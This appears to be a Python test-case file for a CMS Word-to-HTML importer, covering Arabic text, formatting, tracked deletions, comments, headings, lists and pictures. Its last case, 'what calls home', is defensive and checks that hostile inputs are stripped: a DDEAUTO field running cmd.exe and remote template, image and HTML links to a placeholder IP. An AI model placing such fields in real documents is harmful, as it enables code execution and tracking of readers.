"""More Word files: further features alone and together, German and Arabic, and what calls home."""

from tests.cms.word_files.files import FILLER, GERMAN, IMAGE, MEDIA, Case, a_field, comments
from tests.cms.word_files.writer import (
    BULLETS,
    NUMBERS,
    cell,
    note,
    notes,
    paragraph,
    picture,
    relation,
    run,
    style,
    table,
    write,
)

TRACKED = 'w:id="7" w:author="Mia" w:date="2026-11-01T10:00:00Z"'
DELETED_CELL = f"<w:cellDel {TRACKED}/>"


def row_with(mark: str, rows: str, number: int) -> str:
    """A table in which one row has a property."""
    before, *lines = rows.split("<w:tr>")
    lines[number] = f"<w:trPr>{mark}</w:trPr>{lines[number]}"
    return "<w:tr>".join([before, *lines])


def everything_in_arabic() -> bytes:
    """A title, a subtitle, a list, a table, a note and a picture, from right to left."""
    return write(
        paragraph("مهرجان الخريف", style="Titel"),
        paragraph("عصير وكعك للجميع", style="Untertitel"),
        paragraph(run("مرحبا", "<w:rtl/><w:bCs/>"), run(" بكم", "<w:rtl/>"), note(1)),
        paragraph("البرنامج", style="berschrift1"),
        paragraph(run("موسيقى", "<w:rtl/>"), numbering=(BULLETS, 0)),
        paragraph(run("رقص", "<w:rtl/>"), numbering=(BULLETS, 0)),
        table(["اليوم", "الساعة"], ["السبت", "10"]),
        paragraph(picture(described="شجرة تفاح")),
        rows=(IMAGE, relation("rF", "footnotes", "footnotes.xml")),
        styles=GERMAN,
        parts={**MEDIA, "word/footnotes.xml": notes("من الجيران")},
    )


FEATURES = {
    "everything in Arabic": Case(
        everything_in_arabic,
        title="مهرجان الخريف",
        subtitle="عصير وكعك للجميع",
        teaser="مرحبا بكم",
        says=(
            "<p><strong>مرحبا</strong> بكم [1]</p>",
            "<h2>البرنامج</h2><ul><li>موسيقى</li><li>رقص</li></ul>",
            "<tr><td><p>السبت</p></td><td><p>10</p></td></tr>",
            "[0 ]",
            "<p>[1] من الجيران",
        ),
        alternatives=["شجرة تفاح"],
    ),
    "looks": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                run("fett", "<w:b/>"),
                run(" schräg", "<w:i/>"),
                run(" beides", "<w:b/><w:i/>"),
                run(" nicht", '<w:b w:val="0"/>'),
                run(" unterstrichen", '<w:u w:val="single"/>'),
                run(" rot", '<w:color w:val="FF0000"/><w:highlight w:val="yellow"/>'),
            ),
        ),
        says=("<p><strong>fett</strong><em> schräg</em><strong><em> beides</em></strong> nicht",),
        hides=("<u>", "color"),
    ),
    "breaks, tabs and hyphens": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                run("eins"),
                "<w:r><w:br/></w:r>",
                run("zwei"),
                "<w:r><w:tab/></w:r>",
                run("drei"),
                "<w:r><w:noBreakHyphen/></w:r>",
                run("mal"),
                '<w:r><w:br w:type="page"/></w:r>',
                run(" vier"),
                "<w:r><w:lastRenderedPageBreak/></w:r>",
                run(" Ge\u00admein\u00adschaft"),
            ),
        ),
        says=("<p>eins<br>zwei drei\u2011mal vier Ge\u00admein\u00adschaft</p>"),
    ),
    "raised and lowered": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                "20 m",
                run("2", '<w:vertAlign w:val="superscript"/>'),
                " und CO",
                run("2", '<w:vertAlign w:val="subscript"/>'),
                run(" sowie oben", '<w:vertAlign w:val="superscript"/>'),
            ),
        ),
        says=("20 m<sup>2</sup> und CO<sub>2</sub> sowie oben",),
    ),
    "boxes to tick and symbols": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph('<w:r><w:sym w:font="Wingdings" w:char="F0FC"/></w:r>', run(" dabei")),
            paragraph(
                "<w:sdt><w:sdtPr><w:alias w:val='Name'/></w:sdtPr><w:sdtContent>"
                f"{run('ausgefüllt')}</w:sdtContent></w:sdt>",
                "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>"
                f"{run('Klicken Sie hier')}</w:sdtContent></w:sdt>",
            ),
        ),
        says=("dabei</p>", "ausgefüllt</p>"),
        hides=("Klicken Sie hier",),
    ),
    "cells and rows that were deleted": Case(
        lambda: write(
            paragraph(FILLER),
            row_with(
                f"<w:del {TRACKED}/>",
                row_with(
                    f"<w:ins {TRACKED}/>",
                    table(
                        ["Tag", cell("Alter Preis", DELETED_CELL), "Preis"],
                        [
                            "Mo",
                            cell("neun", DELETED_CELL),
                            cell("2", f"<w:cellIns {TRACKED}/>"),
                        ],
                        ["Gestrichen", cell("acht", DELETED_CELL), "1"],
                    ),
                    1,
                ),
                2,
            ),
            paragraph("Danach"),
            table([cell("Ganz", DELETED_CELL), cell("fort", DELETED_CELL)]),
        ),
        says=(
            "<tr><td><p>Tag</p></td><td><p>Preis</p></td></tr>",
            "<tr><td><p>Mo</p></td><td><p>2</p></td></tr></table>",
            "<p>Danach</p>",
        ),
        hides=("Alter Preis", "neun", "acht", "Gestrichen", "Ganz", "fort"),
    ),
    "marks and words that lead to them": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                '<w:bookmarkStart w:id="0" w:name="Ziel"/>',
                run("Hier"),
                '<w:bookmarkEnd w:id="0"/>',
                f'<w:hyperlink w:anchor="Ziel">{run(" dorthin")}</w:hyperlink>',
                a_field("REF Ziel \\h", " noch einmal"),
                f'<w:fldSimple w:instr="PAGE">{run(" Seite 3")}</w:fldSimple>',
            ),
        ),
        says=("<p>Hier dorthin noch einmal Seite 3</p>",),
        hides=("REF", "<a"),
    ),
    "comments between the words": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                '<w:commentRangeStart w:id="0"/>',
                run("Bemerkt"),
                '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>',
                run(" und gut."),
            ),
            rows=(relation("rC", "comments", "comments.xml"),),
            parts={"word/comments.xml": comments("Streng geheim")},
        ),
        says=("<p>Bemerkt und gut.</p>",),
        hides=("geheim",),
        lost={"comments": 1},
    ),
    "headings of six levels": Case(
        lambda: write(
            paragraph("Am Hang", style="Titel"),
            paragraph(FILLER),
            *(paragraph(f"Stufe {level}", style=f"Heading{level}") for level in range(1, 7)),
            paragraph("Ende"),
            styles=(*GERMAN, *(style(f"Heading{n}", f"heading {n}") for n in range(1, 7))),
        ),
        title="Am Hang",
        says=("<h2>Stufe 1</h2><h3>Stufe 2</h3><h3>Stufe 3</h3>", "<h3>Stufe 6</h3><p>Ende</p>"),
    ),
    "quotations": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph("Hier kennt man sich.", style="Zitat"),
            paragraph("Und grüßt.", style="Stark"),
            styles=(*GERMAN, style("Stark", "Intense Quote")),
        ),
        says=("<blockquote><p>Hier kennt man sich.</p>", "<p>Und grüßt.</p></blockquote>"),
    ),
    "lists in lists and numbers anew": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph("Eins", numbering=(NUMBERS, 0)),
            paragraph("dazu", numbering=(BULLETS, 1)),
            paragraph("tiefer", numbering=(BULLETS, 2)),
            paragraph("Zwischentext"),
            paragraph("Wieder eins", numbering=(NUMBERS, 0)),
        ),
        says=("<ol><li>Eins", "dazu", "tiefer", "<p>Zwischentext</p><ol><li>Wieder eins</li></ol>"),
    ),
    "one picture twice": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(picture(described="Rotes Beet")),
            paragraph("Das Beet", style="Beschriftung"),
            paragraph("Dazwischen"),
            paragraph(picture()),
            rows=(IMAGE,),
            parts=MEDIA,
            styles=GERMAN,
        ),
        says=("[0 Das Beet]", "<p>Dazwischen</p>", "[1 ]"),
        alternatives=["Rotes Beet", ""],
    ),
    "what calls home": Case(
        lambda: write(
            paragraph(FILLER),
            paragraph(
                a_field('INCLUDEPICTURE "http://203.0.113.9/a.png" \\d', "Bild fehlt"),
                a_field("DDEAUTO c:\\\\cmd.exe /k", " und mehr"),
                '<w:r><w:pict><v:shape><v:imagedata r:id="rV"/></v:shape></w:pict></w:r>',
            ),
            '<w:altChunk r:id="rH"/>',
            rows=(
                relation("rV", "image", "http://203.0.113.9/b.png", external=True),
                relation("rH", "aFChunk", "http://203.0.113.9/c.html", external=True),
                relation("rT", "attachedTemplate", "http://203.0.113.9/d.dotm", external=True),
            ),
        ),
        says=("<p>Bild fehlt und mehr</p>",),
        hides=("203.0.113.9", "cmd.exe", "DDE"),
        lost={"linked_pictures": 1, "objects": 1},
    ),
}
